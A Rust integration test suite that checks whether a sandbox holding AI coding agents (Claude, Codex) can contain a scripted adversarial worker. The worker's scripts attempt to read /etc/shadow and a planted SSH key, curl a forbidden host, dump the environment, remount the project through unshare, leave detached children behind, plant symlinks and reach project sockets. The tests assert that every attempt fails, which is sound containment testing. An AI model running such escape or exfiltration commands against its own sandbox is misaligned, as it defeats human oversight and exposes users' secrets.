//! The box with the fake worker as the adversary: it tries, from inside `persona run`, everything
//! the OS allows (no harness switch helps here), and witnesses that cannot lie say what got out:
//! a second local HTTP server (the "forbidden host") counting every connection, byte comparisons
//! of every file of the project and HOME, and the process table.

use std::io::{BufRead as _, Write as _};
use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::kit::*;

/// A local HTTP server logging every connection it accepts (before reading anything) and the
/// request line it then reads; it answers 200.
fn witness() -> Recorder<String> {
    Recorder::start(Some("connection".into()), |r| {
        let mut line = String::new();
        let _ = r.read_line(&mut line);
        line.trim().to_owned()
    })
}

/// The secrets and files the adversary goes for, planted in the sandbox.
fn plant(sb: &Sandbox) {
    std::fs::create_dir_all(sb.project.join("src")).unwrap();
    std::fs::write(sb.project.join("src/app.js"), "console.log('app');\n").unwrap();
    std::fs::create_dir_all(sb.project.join(".git/hooks")).unwrap();
    std::fs::write(sb.project.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(sb.home.join(".ssh")).unwrap();
    std::fs::write(
        sb.home.join(".ssh/id_ed25519"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n",
    )
    .unwrap();
    std::fs::write(sb.home.join(".bashrc"), "# my bashrc\n").unwrap();
}

/// The sandbox's Codex configuration with its model provider at `127.0.0.1:<port>` (Claude's
/// endpoint is `ANTHROPIC_BASE_URL`, set on the command).
fn codex_model_at(sb: &Sandbox, port: u16) {
    std::fs::write(
        sb.codex_home.join("config.toml"),
        format!("{CODEX_CONFIG}\nmodel_provider = \"mock\"\n[model_providers.mock]\nname = \"mock\"\nbase_url = \"http://127.0.0.1:{port}/v1\"\nwire_api = \"responses\"\nenv_key = \"MOCK_API_KEY\"\n")
            .replace("[mcp_servers.other]\ncommand = \"x\"\n", ""),
    )
    .unwrap();
}

/// Every write outside the scratch, every secret read, the network by IP literal and by
/// `localhost`, curl, and a detached child: nothing gets out. The positive controls (the model
/// endpoint through the relay, a file in HOME = the scratch) show the adversary did run.
fn nothing_gets_out(harness: &str) {
    let sb = Sandbox::with_user_files();
    plant(&sb);
    let forbidden = witness();
    let model = witness();
    let f = forbidden.port;
    let after = sb.kit().join("after-run.txt");
    if harness == "codex" {
        codex_model_at(&sb, model.port);
    }
    let targets = [
        sb.project.join("src/app.js"),
        sb.project.join(".git/HEAD"),
        sb.project.join(".git/hooks/pre-commit"),
        sb.project.join(".claude/settings.json"),
        sb.project.join(".leopold/persona/ACTIVE.json"),
        sb.project.join(".leopold/persona/events.jsonl"),
        sb.flow(),
        sb.codex_home.join("config.toml"),
    ];
    // Not in the box at all: a write lands in the box's own throwaway /tmp, never outside.
    let absent = [
        sb.home.join(".bashrc"),
        sb.home.join(".ssh/authorized_keys"),
        sb.root.join("planted-at-root"),
    ];
    let mut script = format!(
        "@get http://127.0.0.1:{f}/ip-literal\n@get http://localhost:{f}/localhost\n\
         @sh curl -s -m 2 127.0.0.1:{f}/curl-scheme-less\n\
         @get http://127.0.0.1:{}/v1/positive-control\n\
         @read /etc/shadow\n@read {}\n\
         @write ${{HOME}}/scratch-ok.txt\n\
         @sh env > \"$HOME/env.txt\" && cp \"$HOME/env.txt\" \"$FAKE_WORKER_RESULTS.env\"; ls -la / /tmp > \"$HOME/ls.txt\" 2>&1\n\
         @sh mount -o remount,rw,bind {p} && touch {p}/remounted\n\
         @sh unshare -rm sh -c 'mount -o remount,rw,bind {p} && touch {p}/remounted-userns'\n\
         @sh grep -Eq 'CapEff:.0+$' /proc/self/status && grep -Eq 'CapBnd:.0+$' /proc/self/status\n\
         @detach 2 http://127.0.0.1:{f}/after-run {}\n",
        model.port,
        sb.home.join(".ssh/id_ed25519").display(),
        after.display(),
        p = sb.project.display(),
    );
    for t in targets.iter().chain(&absent) {
        script.push_str(&format!("@write {}\n", t.display()));
    }
    script.push_str("@exit 0\n");
    sb.set_script(&script);
    let before = sb.snapshot();
    let flow_before = std::fs::read(sb.flow()).unwrap();

    // The scratch kept, so that it shows what of the worker's HOME reached the disk.
    let out = sb
        .run_cmd(harness, &["--keep-scratch"])
        .env(
            "ANTHROPIC_BASE_URL",
            format!("http://127.0.0.1:{}", model.port),
        )
        .env("MOCK_API_KEY", "none")
        .env("AWS_SECRET_ACCESS_KEY", "planted-aws-secret")
        .env("GITHUB_TOKEN", "planted-github-token")
        .output()
        .unwrap();
    assert_exit_code(&out, 0);
    let results = sb.results_lines();

    // Positive controls: the adversary ran, reached the model endpoint, wrote its scratch.
    let gets = results_for(&results, "get");
    assert_eq!(gets.len(), 3, "{results:?}");
    assert_eq!(
        gets[2]["ok"], true,
        "the model endpoint through the relay: {results:?}"
    );
    assert!(
        model
            .seen()
            .iter()
            .any(|l| l.starts_with("GET /v1/positive-control")),
        "{:?}",
        model.seen()
    );
    let run_dir = sb.run_dir();
    // HOME is the scratch, a tmpfs: written in the box, gone with it.
    assert_eq!(results_for(&results, "write")[0]["ok"], true, "{results:?}");
    assert!(run_dir.join("scratch").is_dir());
    assert!(!run_dir.join("scratch/scratch-ok.txt").exists());

    // The environment: the supervisor's other variables never reach the box.
    let env = std::fs::read_to_string(sb.kit().join("results.jsonl.env")).unwrap();
    assert_has(&env, "LEOPOLD_RUN_ID=");
    assert!(!env.contains("planted-"), "{env}");

    // The network: the forbidden host saw no connection at all, by any spelling.
    assert_eq!(gets[0]["ok"], false, "{results:?}");
    assert_eq!(gets[1]["ok"], false, "{results:?}");
    let sh = results_for(&results, "sh");
    assert_eq!(sh[0]["ok"], false, "curl: {results:?}");
    assert_eq!(sh[1]["ok"], true, "env and ls ran: {results:?}");
    // No capability to remount the read-only project, nor a user namespace to get one in.
    assert_eq!(sh[2]["ok"], false, "remount: {results:?}");
    assert_eq!(
        sh[3]["ok"], false,
        "remount in a user namespace: {results:?}"
    );
    assert_eq!(
        sh[4]["ok"], true,
        "no capability, bounding set empty: {results:?}"
    );

    // Secrets: neither readable.
    for r in results_for(&results, "read") {
        assert_eq!(r["ok"], false, "{r}");
    }
    // Writes: every one refused, and every byte where it was.
    let writes = results_for(&results, "write");
    assert_eq!(writes.len(), 1 + targets.len() + absent.len());
    for w in &writes[1..=targets.len()] {
        assert_eq!(w["ok"], false, "read-only in the box: {w}");
    }
    assert_eq!(sb.snapshot(), before, "project and HOME byte-identical");
    assert_eq!(std::fs::read(sb.flow()).unwrap(), flow_before);
    assert!(!sb.root.join("planted-at-root").exists());
    let events = sb.events_text();
    assert!(!events.contains("written by the persona"));

    // The detached child: gone with the run; after its time it has not acted.
    let detach = results_for(&results, "detach");
    assert_eq!(detach[0]["ok"], true, "{results:?}");
    let run_id = sb.run_json()["run_id"].as_str().unwrap().to_owned();
    assert!(processes_of_run(&run_id).is_empty());
    assert!(!sb.proc_alive(detach[0]["pid"].as_u64().unwrap() as u32));
    std::thread::sleep(Duration::from_secs(3));
    assert!(!after.exists(), "the detached child acted after the run");
    assert!(
        forbidden.seen().is_empty(),
        "the forbidden host was reached: {:?}",
        forbidden.seen()
    );
}

#[test]
fn claude_nothing_gets_out_of_the_box() {
    nothing_gets_out("claude");
}

#[test]
fn codex_nothing_gets_out_of_the_box() {
    nothing_gets_out("codex");
}

/// The boxed worker starts while the guard's proof still runs, and its model waits for the
/// proof's answer. Here the proof fails (the guard command's binary is moved away once ACTIVE.json
/// names the run, as a broken install would leave it, and a program that exits 127 after a second
/// put in its place) while the worker goes for its model at once:
/// the endpoint sees no connection at all, the worker is stopped mid-request, the run ends
/// `setup_failed` with exit 2, and nothing of it is left. The positive control, the same worker
/// with the guard in place, reaches the endpoint.
fn a_failed_proof_stops_the_boxed_worker_before_its_model(harness: &str) {
    let run = |move_the_guard: bool| {
        let sb = Sandbox::with_user_files();
        let model = witness();
        if harness == "codex" {
            codex_model_at(&sb, model.port);
        }
        let reached = sb.kit().join("past-the-model.txt");
        sb.set_script(&format!(
            "@get http://127.0.0.1:{}/v1/first\n@write {}\n@exit 0\n",
            model.port,
            reached.display()
        ));
        // A private copy of leopold: the guard command the run wires (and proves) is its path.
        let copy = sb.root.join("bin/leopold");
        std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
        std::fs::copy(LEOPOLD, &copy).unwrap();
        let before = sb.snapshot();
        let child = sb
            .persona_run_command(&copy, harness, &[])
            .env(
                "ANTHROPIC_BASE_URL",
                format!("http://127.0.0.1:{}", model.port),
            )
            .env("MOCK_API_KEY", "none")
            .env("__LEOPOLD_PAUSE_AT", "active-written")
            .env("__LEOPOLD_PAUSE_MARKER", sb.marker())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        wait_for(15, "the supervisor to pause at active-written", || {
            sb.marker().exists()
        });
        let active: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(sb.active()).unwrap()).unwrap();
        let run_id = active["run_id"].as_str().unwrap().to_owned();
        if move_the_guard {
            // The running supervisor keeps its own file (the box binds it by its new name). In
            // its place, a guard that cannot deny, and answers only after a second: time for the
            // boxed worker to start and go for its model (a guard that fails at once could stop
            // the run before the box has started the worker at all).
            std::fs::rename(&copy, copy.with_extension("moved-away")).unwrap();
            std::fs::write(&copy, "#!/bin/sh\nsleep 1\nexit 127\n").unwrap();
            use std::os::unix::fs::PermissionsExt as _;
            std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        std::fs::remove_file(sb.marker()).unwrap();
        let out = child.wait_with_output().unwrap();
        let err = stderr(&out);
        assert!(processes_of_run(&run_id).is_empty(), "{err}");
        assert!(!sb.active().exists(), "{err}");
        assert_eq!(sb.snapshot(), before, "project and HOME byte-identical");
        (out, sb, model, reached)
    };

    let (out, sb, model, reached) = run(true);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{}{err}", stdout(&out));
    assert_has(&err, "the wired guard did not deny");
    assert_has(&err, "exit 127");
    assert_eq!(sb.run_json()["end"]["outcome"], "setup_failed");
    // The worker ran (it recorded its start) and went for its model: held, then stopped.
    assert!(sb.worker_record()["pid"].is_u64(), "the worker started");
    assert!(
        model.seen().is_empty(),
        "the model was reached: {:?}",
        model.seen()
    );
    assert!(
        results_for(&sb.results_lines(), "get").is_empty(),
        "the model request was answered: {:?}",
        sb.results_lines()
    );
    assert!(
        !reached.exists(),
        "the worker went on past its model request"
    );

    let (out, sb, model, reached) = run(false);
    assert_exit_code(&out, 0);
    assert!(
        model.seen().iter().any(|l| l.starts_with("GET /v1/first")),
        "{:?}",
        model.seen()
    );
    assert_eq!(results_for(&sb.results_lines(), "get")[0]["ok"], true);
    assert!(reached.exists());
}

#[test]
fn claude_a_failed_proof_stops_the_boxed_worker_before_its_model() {
    a_failed_proof_stops_the_boxed_worker_before_its_model("claude");
}

#[test]
fn codex_a_failed_proof_stops_the_boxed_worker_before_its_model() {
    a_failed_proof_stops_the_boxed_worker_before_its_model("codex");
}

/// A remote https endpoint: in the box the harness's base URL is the model relay's loopback
/// port, in plain HTTP, and the relay outside sends requests to the one endpoint only. A
/// `CONNECT` to the forbidden host (by IP and by name) and a proxy-style `GET` for it are
/// refused outside the box, counted, and never reach it.
#[test]
fn the_model_relay_admits_only_the_endpoint() {
    let sb = Sandbox::with_user_files();
    let forbidden = witness();
    let base = sb.kit().join("base-url.txt");
    sb.set_script(&format!(
        "@sh printf %s \"$ANTHROPIC_BASE_URL\" > {1}\n@connect 127.0.0.1:{0}\n@connect localhost:{0}\n@proxy-get http://127.0.0.1:{0}/proxied\n@get http://127.0.0.1:{0}/direct\n@exit 0\n",
        forbidden.port,
        base.display()
    ));
    let out = sb.run_with_env(
        "claude",
        &[],
        &[("ANTHROPIC_BASE_URL", "https://api.anthropic.com")],
    );
    assert_exit_code(&out, 0);
    assert_eq!(
        std::fs::read_to_string(&base).unwrap(),
        "http://127.0.0.1:3128",
        "the harness in the box is pointed at the relay"
    );
    let results = sb.results_lines();
    let refused: Vec<_> = results
        .iter()
        .filter(|l| l["op"] == "connect" || l["op"] == "proxy-get")
        .collect();
    assert_eq!(refused.len(), 3, "{results:?}");
    for c in refused {
        assert!(
            c["detail"].as_str().unwrap().contains("403"),
            "refused by the supervisor: {c}"
        );
    }
    assert_eq!(results_for(&results, "get")[0]["ok"], false, "{results:?}");
    assert_has(&stderr(&out), "the box refused 3 request(s)");
    assert!(!stderr(&out).contains("https://"), "hosts only, never URLs");
    assert!(forbidden.seen().is_empty(), "{:?}", forbidden.seen());
}

/// The guard runs inside the box: it reads the flow and ACTIVE.json there, and its denial
/// reaches `events.jsonl` (which the box cannot write) through the supervisor's socket.
#[test]
fn the_guard_denies_inside_the_box_and_its_event_reaches_the_record() {
    let sb = Sandbox::scripted(
        "@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n",
    );
    let out = sb.run_cmd("claude", &[]).output().unwrap();
    assert_exit_code(&out, 0);
    let events = sb.events_text();
    let line = events
        .lines()
        .find(|l| l.contains("toolu_fake_1"))
        .unwrap_or_else(|| panic!("no event for the call: {events}"));
    let v: serde_json::Value = serde_json::from_str(line).unwrap();
    assert_eq!(v["reason"], "outside_allowlist");
    assert_eq!(v["host"], "evil.example");
    let journal = sb.journal();
    assert_eq!(journal[1]["outcome"], "denied");
}

/// The supervisor SIGKILLed mid-run: every process of the box dies with it (the worker, its
/// grandchild, a detached child), nothing acts afterwards, and recovery restores every file.
#[test]
fn a_sigkilled_supervisor_takes_the_whole_box_with_it() {
    let sb = Sandbox::with_user_files();
    let forbidden = witness();
    let after = sb.kit().join("after-kill.txt");
    sb.set_script(&format!(
        "@detach 2 http://127.0.0.1:{}/after-kill {}\n@grandchild 60\n{}\n{}\n@sleep 60000\n",
        forbidden.port,
        after.display(),
        claude_navigate("t1", "https://staging.example.com/a"),
        claude_tool_ok("t1")
    ));
    let before = sb.snapshot();
    let mut child = sb.spawn_paused("claude", "mid-stream");
    let run_id = active_run_id(&sb);
    wait_for(5, "the grandchild", || sb.grandchild_pid().is_some());
    let detached = sb.results_lines()[0]["pid"].as_u64().unwrap() as u32;
    assert!(sb.proc_alive(detached));
    signal(child.id(), "KILL");
    let _ = child.wait();

    // No recovery yet: the kernel alone must have ended the box.
    wait_for(5, "every process of the run to die", || {
        processes_of_run(&run_id).is_empty()
    });
    let worker = sb.worker_record()["pid"].as_u64().unwrap() as u32;
    for pid in [worker, sb.grandchild_pid().unwrap(), detached] {
        assert!(!sb.proc_alive(pid), "{pid} outlived the supervisor");
    }
    std::thread::sleep(Duration::from_secs(3));
    assert!(!after.exists(), "the detached child acted after the kill");
    assert!(forbidden.seen().is_empty(), "{:?}", forbidden.seen());

    let out = sb.recover();
    assert_exit_code(&out, 0);
    assert_eq!(sb.snapshot(), before);
    assert!(!sb.active().exists());
    assert!(
        !Path::new(&format!("/tmp/leopold-{run_id}")).exists()
            || std::env::var_os("XDG_RUNTIME_DIR").is_some()
    );
}

/// A machine that cannot build the box: exit 2 naming what is missing, nothing touched; with
/// `--no-contain` the run goes ahead and says so.
#[test]
fn no_box_refuses_unless_no_contain() {
    let sb = Sandbox::scripted("@exit 0\n");
    let before = sb.snapshot();
    let out = sb.run_with_env("claude", &[], &[("__LEOPOLD_BWRAP", "/nonexistent/bwrap")]);
    assert_exit_code(&out, 2);
    let e = stderr(&out);
    assert_has(&e, "bubblewrap");
    assert_has(&e, "--no-contain");
    assert_eq!(sb.snapshot(), before);
    assert!(!sb.persona_dir().exists(), "nothing touched");

    let out = sb
        .run_cmd("claude", &["--no-contain"])
        .env("__LEOPOLD_BWRAP", "/nonexistent/bwrap")
        .stdout(Stdio::piped())
        .output()
        .unwrap();
    assert_exit_code(&out, 0);
    assert_has(&stderr(&out), "WITHOUT the box");
}

/// A build without the `test-knobs` feature, as `cargo build --release` is, reads no
/// `__LEOPOLD_*` knob: a `bwrap` named by `__LEOPOLD_BWRAP` (here a script that would box
/// nothing, and notes each time it is run) is never run, by `doctor` or by `persona run`, and the
/// guard's forced panic is not forced. That build is `scripts/test.sh`'s `LEOPOLD_BIN_NO_KNOBS`;
/// this package's own binary (built with the feature) is the control: the knob is read there.
#[test]
#[allow(clippy::print_stderr)]
fn a_build_without_the_test_knobs_reads_none() {
    let Some(no_knobs) = std::env::var_os("LEOPOLD_BIN_NO_KNOBS").filter(|v| !v.is_empty()) else {
        let why = "LEOPOLD_BIN_NO_KNOBS is not set: run ./scripts/test.sh (it builds leopold \
                   without the test-knobs feature)";
        assert!(std::env::var_os("CI").is_none_or(|v| v.is_empty()), "{why}");
        eprintln!("\n*** SKIPPED: {why}\n");
        return;
    };
    let no_knobs = std::path::PathBuf::from(no_knobs);
    let sb = Sandbox::scripted("@exit 0\n");
    let ran = sb.root.join("fake-bwrap-ran");
    let fake = sb.root.join("fake-bwrap");
    std::fs::write(
        &fake,
        format!("#!/bin/sh\necho \"$*\" >> '{}'\nexit 1\n", ran.display()),
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let project = sb.project.display().to_string();
    let doctor = |bin: &Path| {
        let out = sb
            .leopold_command(bin, &["doctor", "--project", &project, "--json"])
            .env("__LEOPOLD_BWRAP", &fake)
            .output()
            .unwrap();
        let v: serde_json::Value = serde_json::from_str(stdout(&out).trim())
            .unwrap_or_else(|e| panic!("{e}: {}", stdout(&out)));
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["check"] == "box")
            .cloned()
            .unwrap()
    };
    // The control: the build with the knobs runs the fake.
    let control = doctor(Path::new(LEOPOLD));
    assert!(
        ran.exists(),
        "the knob is not read even with the feature: {control}"
    );
    std::fs::remove_file(&ran).unwrap();

    let found = doctor(&no_knobs);
    assert!(!ran.exists(), "{found}");
    assert_eq!(found["status"], "ok", "{found}");
    let out = sb
        .persona_run_command(&no_knobs, "claude", &[])
        .env("__LEOPOLD_BWRAP", &fake)
        .output()
        .unwrap();
    assert!(
        !ran.exists(),
        "persona run ran the knob's bwrap: {}",
        stderr(&out)
    );

    // The guard's forced panic (`__LEOPOLD_GUARD_PANIC`) is not forced either.
    let mut guard = sb
        .leopold_command(&no_knobs, &["persona", "guard"])
        .current_dir(&sb.project)
        .env("__LEOPOLD_GUARD_PANIC", "1")
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    guard.stdin.take().unwrap().write_all(b"{}").unwrap();
    let out = guard.wait_with_output().unwrap();
    assert!(!stderr(&out).contains("internal_error"), "{}", stderr(&out));
}

/// The worker owns its scratch while it runs: a `.codex` it replaced by a symlink to the user's
/// own `~/.codex` must not aim the supervisor's end-of-run cleanup (it removes the run's copy of
/// the Codex configuration) at the user's file. Seen on Codex 0.171.0 through `persona run`
/// (tests/tests/e2e/contained.rs, c4); here without any harness, on both.
#[test]
fn a_symlink_planted_in_the_scratch_aims_no_cleanup_outside_it() {
    for harness in ["claude", "codex"] {
        let sb = Sandbox::with_user_files();
        sb.set_script(&format!(
            "@sh mv \"$HOME/.codex\" \"$HOME/.codex-moved\"; ln -s {} \"$HOME/.codex\"\n@exit 0\n",
            sb.codex_home.display()
        ));
        let before = sb.snapshot();
        let out = sb.run_cmd(harness, &[]).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{harness}: {}", stderr(&out));
        assert_eq!(
            sb.results_lines()[0]["ok"],
            true,
            "{harness}: the symlink was planted"
        );
        assert_eq!(
            std::fs::read_to_string(sb.codex_home.join("config.toml"))
                .ok()
                .as_deref(),
            Some(CODEX_CONFIG),
            "{harness}: the user's Codex configuration"
        );
        assert_eq!(sb.snapshot(), before, "{harness}");
    }
}

/// A unix socket in the project (a dev server's `tmp/sockets/puma.sock`, overmind's
/// `.overmind.sock`, a Postgres `.s.PGSQL.5432`) was reachable from inside the box while the
/// project was bound read-only (`connect()` on a socket needs no write access to its mount; seen
/// on Codex 0.171.0 too, tests/tests/e2e/contained.rs c8). The box now holds only the project's
/// `.leopold/`: here with no harness at all, the adversary connects to the socket's path.
#[test]
fn a_unix_socket_in_the_project_is_not_reachable_from_the_box() {
    let sb = Sandbox::with_user_files();
    std::fs::create_dir_all(sb.project.join("tmp/sockets")).unwrap();
    let sock = sb.project.join("tmp/sockets/puma.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let seen2 = seen.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut line = String::new();
            let _ = std::io::BufReader::new(&conn).read_line(&mut line);
            seen2.lock().unwrap().push(line.trim().to_owned());
            let mut w = &conn;
            let _ = w.write_all(b"HTTP/1.0 200 OK\r\ncontent-length: 2\r\n\r\nok");
        }
    });
    sb.set_script(&format!(
        "@sh curl -s -m 3 --unix-socket {} http://staging.example.com/checkout/confirm\n@exit 0\n",
        sock.display()
    ));
    let out = sb.run_cmd("claude", &[]).output().unwrap();
    assert_exit_code(&out, 0);
    let reached = seen.lock().unwrap().clone();
    assert!(
        reached.is_empty(),
        "a socket outside the box was reached: {reached:?}"
    );
}

/// The box's view of `/etc` comes from listings cached between runs
/// (docs/reference.md#what-a-run-does, step 5): a file `chmod`ed to root-only after a run, in a
/// folder whose listing the
/// cache holds (a `chmod` changes no folder's key), is hidden from the next run's worker all the
/// same. The worker reads it in both runs; the second read must fail.
#[test]
#[allow(clippy::print_stderr)]
fn a_file_made_root_only_between_two_runs_is_hidden_from_the_next() {
    if !rustix::process::geteuid().is_root() {
        let why = "this test writes a folder in /etc: run the suite as root (CI does)";
        assert!(std::env::var_os("CI").is_none_or(|v| v.is_empty()), "{why}");
        eprintln!("\n*** SKIPPED: {why}\n");
        return;
    }
    use std::os::unix::fs::PermissionsExt as _;
    let sb = Sandbox::with_user_files();
    // Removed when the test ends, however it ends; made listable by others (tempfile makes 0700).
    let dir = tempfile::Builder::new()
        .prefix("leopold-test-")
        .tempdir_in("/etc")
        .unwrap();
    let folder = dir.path();
    std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o755)).unwrap();
    let file = folder.join("token");
    std::fs::write(&file, "readable for now\n").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    // A listing is cached only for a folder left alone for 2 s.
    std::thread::sleep(Duration::from_millis(2200));
    sb.set_script(&format!("@read {}\n@exit 0\n", file.display()));

    assert_exit_code(&sb.run_cmd("claude", &[]).output().unwrap(), 0);
    let cache: serde_json::Value = serde_json::from_slice(
        &std::fs::read(sb.root.join("cache/leopold/etc-listing.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(
        cache["dirs"][folder.to_str().unwrap()]["names"],
        "token/",
        "the first run cached the folder's listing"
    );
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert_exit_code(&sb.run_cmd("claude", &[]).output().unwrap(), 0);

    let reads = sb.results_lines();
    let reads = results_for(&reads, "read");
    assert_eq!(reads.len(), 2, "{reads:?}");
    assert_eq!(
        reads[0]["ok"], true,
        "world-readable, in the box: {}",
        reads[0]
    );
    assert_eq!(
        reads[1]["ok"], false,
        "root-only since the first run, hidden: {}",
        reads[1]
    );
}
